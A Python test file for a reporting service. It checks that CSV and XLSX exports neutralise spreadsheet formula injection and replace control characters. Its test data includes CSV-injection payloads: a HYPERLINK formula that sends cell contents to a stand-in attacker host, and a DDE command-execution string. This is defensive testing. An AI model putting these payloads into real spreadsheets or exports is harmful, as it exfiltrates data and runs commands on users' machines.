"""CSV and XLSX downloads carry event text (agent ids, team and project names, outcome reasons) and
the caller's filters: a spreadsheet must show such text, never run it as a formula, and a control
character in it must not make the download fail."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from services.reports.export import to_csv, to_xlsx

# each starts a formula in Excel, LibreOffice or Sheets (OWASP "CSV injection")
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def rows() -> list[dict[str, Any]]:
    return [{"agent": text, "team": {"name": text}, "failures": -3, "share": -0.25, "reason": None}
            for text in HOSTILE]


def test_csv_quotes_text_a_spreadsheet_would_run_and_keeps_numbers() -> None:
    table = list(csv.reader(io.StringIO(to_csv(rows()))))
    assert table[0] == ["agent", "team.name", "failures", "share", "reason"]
    for text, row in zip(HOSTILE, table[1:], strict=True):
        assert row == ["'" + text, "'" + text, "-3", "-0.25", ""]  # a negative number stays a number


def test_xlsx_stores_text_as_text_never_as_a_formula() -> None:
    from openpyxl import load_workbook

    data = to_xlsx("agent-log", rows(), {"report": "agent-log", "agent": HOSTILE[0], "limit": 10})
    book = load_workbook(io.BytesIO(data))
    sheet, params = book["agent-log"], book["params"]
    cells = [c for ws in (sheet, params) for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    for text, row in zip(HOSTILE, list(sheet.iter_rows())[1:], strict=True):
        shown = "'" + text.replace("\r", "\n")  # XML reads a stored CR back as LF
        assert [(c.value, c.data_type) for c in row] == [(shown, "s"), (shown, "s"), (-3, "n"), (-0.25, "n"),
                                                         (None, "n")]
    assert [(a.value, b.value) for a, b in params.iter_rows()] == [
        ("report", "agent-log"), ("agent", "'" + HOSTILE[0]), ("limit", "10")]
    assert sheet.freeze_panes == "A2" and all(c.font.b for c in sheet[1])


@pytest.mark.parametrize("char", ["\x0b", "\x01", "\x1f"])
def test_xlsx_replaces_characters_xml_cannot_carry(char: str) -> None:
    from openpyxl import load_workbook

    data = to_xlsx("agent-log", [{"agent": f"bad{char}name"}], {"team": f"a{char}b"})
    book = load_workbook(io.BytesIO(data))
    assert book["agent-log"]["A2"].value == "bad\ufffdname"
    assert book["params"]["B1"].value == "a\ufffdb"
